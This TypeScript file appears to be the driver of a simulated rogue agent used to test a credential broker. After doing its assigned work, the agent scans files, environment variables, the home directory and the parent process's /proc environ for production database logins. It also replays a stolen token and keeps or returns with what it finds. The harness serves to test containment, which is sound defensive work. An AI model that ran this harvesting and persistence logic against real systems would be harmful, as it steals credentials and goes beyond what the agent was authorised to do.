import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { profileDirectory } from '@credbroker/sdk/profile'
import { askForMore } from './ask.ts'
import type { Login } from './database.ts'
import { tryAll, tryDanger } from './greed.ts'
import { comeBack, hold, keep } from './loot.ts'
import { askTheGateway, useWhatLiesAbout } from './railway.ts'
import { codeOf, tell } from './say.ts'
import { environmentOf, loginsBelow, loginsIn, type Place } from './search.ts'
import { replayToken } from './stolen-token.ts'
import { ownLogin, work } from './work.ts'

// The agent of both acts. It does its work, and then whatever it can. It knows nothing of the broker's but what lies
// about: with an enrolled identity in its home it asks the broker, without one there is nobody to ask.

interface Surroundings {
  /** Hosts are no secret: the project's documentation has them. */
  readonly production: Place & { readonly database: string }
}

/** Told to it, since hiding a path protects nothing. */
interface Paths {
  readonly state: readonly string[]
}

async function everything(): Promise<void> {
  const { production } = json<Surroundings>('config/databases.json')
  const own = ownLogin(process.env)
  await work(own)

  let key: Login | undefined
  key = (await tryAll('file', loginsBelow(process.cwd(), production), key !== undefined)) ?? key
  const variables = Object.entries(process.env).flatMap(([name, value]) =>
    loginsIn(value ?? '', name, production),
  )
  key = (await tryAll('variables', variables, key !== undefined)) ?? key
  key =
    (await tryAll('home', loginsBelow(process.env['HOME'] as string, production), key !== undefined)) ?? key
  const starter = loginsIn(environmentOf(process.ppid) ?? '', `/proc/${process.ppid}/environ`, production)
  key = (await tryAll('starter', starter, key !== undefined)) ?? key
  if (own)
    await tryAll('staging-role', [{ where: own.user, login: { ...own, ...production } }], key !== undefined)

  if (existsSync('paths.json')) readState(json<Paths>('paths.json').state)
  if (own && process.env['PGPASSFILE']) await tryDanger(own)
  if (existsSync(join(profileDirectory(process.env), 'default.json'))) {
    await askForMore()
    await replayToken()
  }
  const best = key ?? own
  if (best) await keep(best)
}

function readState(paths: readonly string[]): void {
  const codes = paths.map((path) => {
    try {
      readFileSync(path)
      return `read ${path}`
    } catch (error) {
      if (codeOf(error) !== 'EISDIR') return codeOf(error)
      try {
        return `listed ${path}: ${readdirSync(path).join(' ')}`
      } catch (denied) {
        return codeOf(denied)
      }
    }
  })
  const open = codes.filter((code) => code.includes(' '))
  if (open.length > 0) tell('state', 'reached', 'ok', open.join('; '))
  else tell('state', 'refused', [...new Set(codes)].join(' '), `${paths.length} paths`)
}

const json = <Value>(file: string): Value => JSON.parse(readFileSync(file, 'utf8'))

const [, , mode, file = ''] = process.argv
if (mode === 'hold') await hold(file)
else if (mode === 'later') await comeBack()
else if (mode === 'railway') await useWhatLiesAbout()
else if (mode === 'railway-gateway') await askTheGateway()
else await everything()
